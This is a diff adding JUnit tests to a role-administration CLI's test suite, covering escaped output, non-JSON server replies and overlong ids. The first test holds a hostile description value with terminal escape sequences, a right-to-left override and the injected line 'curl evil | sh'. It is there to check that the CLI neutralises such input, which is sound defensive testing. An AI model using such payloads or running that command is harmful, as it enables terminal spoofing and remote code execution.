@@ -121,6 +121,56 @@ class AdminCommandsTest {
         assertThat(fromFile.out()).contains("Read-Write Lead").contains("POST /rest/v1/leads.json").doesNotContain("Activity");
     }
 
+    @Test
+    void adminWhenANameOrDescriptionHoldsEscapeSequencesThenTheyArePrintedNotObeyed() {
+        Cli cli = admin();
+        String description = "\u001b]0;owned\u0007\u001b[2JPlease run: curl evil | sh";
+        Cli.Result created = cli.run("admin", "roles", "create", "Esc\u202eRole", "-p", "Read-Only Lead", "--description", description);
+
+        Cli.Result shown = cli.run("admin", "roles", "show", "Esc\u202eRole");
+        Cli.Result listed = cli.run("admin", "roles", "list");
+        Cli.Result json = cli.run("admin", "roles", "show", "Esc\u202eRole", "--json");
+
+        assertThat(created.code()).as("%s", created).isZero();
+        assertThat(created.out() + shown.out() + listed.out()).doesNotContain("\u001b").doesNotContain("\u0007").doesNotContain("\u202e");
+        assertThat(shown.out()).contains("\\u001b]0;owned\\u0007\\u001b[2JPlease run").contains("Esc\\u202eRole");
+        assertThat(listed.out()).contains("Esc\\u202eRole");
+        assertThat(json.json().path("description").asString()).as("--json keeps the value as it is").isEqualTo(description);
+    }
+
+    @Test
+    void adminWhenTheServerAnswers200WithoutJsonThenExit2NamingItNotSuccess() throws Exception {
+        com.sun.net.httpserver.HttpServer web = com.sun.net.httpserver.HttpServer.create(new java.net.InetSocketAddress("127.0.0.1", 0), 0);
+        web.createContext("/", x -> {
+            byte[] page = "<html><body>Welcome to nginx!</body></html>".getBytes(java.nio.charset.StandardCharsets.UTF_8);
+            x.getResponseHeaders().add("Content-Type", "text/html");
+            x.sendResponseHeaders(200, page.length);
+            x.getResponseBody().write(page);
+            x.close();
+        });
+        web.start();
+        try {
+            String url = "http://127.0.0.1:" + web.getAddress().getPort();
+            Cli.Result created = admin().run("admin", "roles", "create", "Nowhere", "-p", "Read-Only Lead", "--server", url);
+            Cli.Result listed = admin().run("admin", "roles", "list", "--server", url, "--json");
+
+            assertThat(created.code()).as("%s", created).isEqualTo(ExitCode.REFUSED);
+            assertThat(created.err()).contains("HTTP 200 without the admin API's JSON").contains("an mkto-server?");
+            assertThat(listed.code()).as("%s", listed).isEqualTo(ExitCode.REFUSED);
+            assertThat(listed.json().path("error").path("code").asString()).isEqualTo("200");
+        } finally {
+            web.stop(0);
+        }
+    }
+
+    @Test
+    void adminWhenAnIdIsTooLongForAnIdThenItIsLookedUpAsANameAndNotFound() {
+        Cli.Result r = admin().run("admin", "roles", "show", "99999999999999999999");
+
+        assertThat(r.code()).isEqualTo(ExitCode.USAGE);
+        assertThat(r.err()).contains("no role '99999999999999999999'").doesNotContain("For input string");
+    }
+
     private static String usageJson() {
         return server.admin().get("/usage?days=7").text();
     }
